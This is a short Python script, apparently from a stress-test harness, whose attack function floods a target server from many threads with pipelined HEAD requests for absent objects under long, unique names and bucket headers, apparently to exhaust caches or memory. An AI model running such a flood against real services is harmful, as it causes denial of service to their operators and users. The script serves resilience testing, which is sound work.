"""Kinds and buckets without end, each as long as it may be, of objects that are absent."""

import itertools
import time

import wire


def attack(victim):
    numbers = itertools.count()

    def name(thread):
        with victim.connect() as sock:
            for _ in range(100):
                count = next(numbers)
                headers = [("C0-Bucket", f"{'q' * 50}{count // 1000:013d}")]
                kinds = [f"{'k' * 50}{thread:03d}{count:06d}{i:04d}" for i in range(20)]
                sock.sendall(b"".join(wire.head(f"/fetch/{kind}/none-1", headers) for kind in kinds))
                sock.recv(1 << 16)

    wire.crowd(4 * victim.scale, name)
    time.sleep(0.5)
    victim.begun()
